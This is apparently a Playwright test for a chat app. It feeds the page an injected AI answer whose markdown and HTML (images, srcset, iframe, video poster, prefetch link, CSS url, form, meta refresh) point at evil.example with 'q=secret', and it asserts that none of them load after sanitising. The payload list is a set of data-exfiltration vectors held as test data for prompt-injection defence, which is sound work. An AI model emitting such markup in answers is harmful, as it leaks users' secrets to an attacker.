"""An answer that an injection has written: the page loads nothing for it, whatever it would carry away."""

import pytest
from playwright.sync_api import Page, expect

from tests.fakes.router_server import FakeRouter
from tests.fakes.turns import document_turn

pytestmark = pytest.mark.slow

PLACE = "http://evil.example"
ANSWER = f"""Badges are given out by the front desk.

![done]({PLACE}/markdown?q=secret) ![ref][there]
<img src="{PLACE}/html?q=secret" srcset="{PLACE}/set?q=secret 2x">
<video poster="{PLACE}/poster?q=secret" src="{PLACE}/video?q=secret" autoplay></video>
<iframe src="{PLACE}/frame?q=secret"></iframe> <link rel="prefetch" href="{PLACE}/prefetch?q=secret">
<svg><image href="{PLACE}/svg?q=secret" /></svg> <object data="{PLACE}/object?q=secret"></object>
<p style="background: url({PLACE}/style?q=secret)">styled</p> <base href="{PLACE}/base/">
<form action="{PLACE}/form?q=secret"><button autofocus>go</button></form>
<meta http-equiv="refresh" content="0; url={PLACE}/refresh?q=secret">

[a link]({PLACE}/link?q=secret)

[there]: {PLACE}/reference?q=secret
"""


def test_nothing_is_loaded_from_anywhere_else(page: Page, router: FakeRouter, problems: list[str]) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    router.script(*document_turn(ANSWER))

    page.fill("#question", "How are badges given out?")
    page.keyboard.press("Enter")
    answer = page.locator(".answer-body").last
    expect(answer).to_contain_text("front desk")
    expect(answer.locator(f'a[href^="{PLACE}/link"]')).to_have_attribute("rel", "noopener noreferrer")
    page.reload()
    expect(page.locator(".answer-body").last).to_contain_text("front desk")

    assert asked, "no request was seen at all"
    assert not [address for address in asked if PLACE in address]
    forbidden = "img, video, iframe, link, svg image, object, form, meta, base, [style], [srcset]"
    expect(page.locator(".answer-body").locator(forbidden)).to_have_count(0)
    # The sanitiser parses in a document of its own, where Chromium already reports what the policy forbids.
    assert all("Content Security Policy" in problem for problem in problems)
    problems.clear()
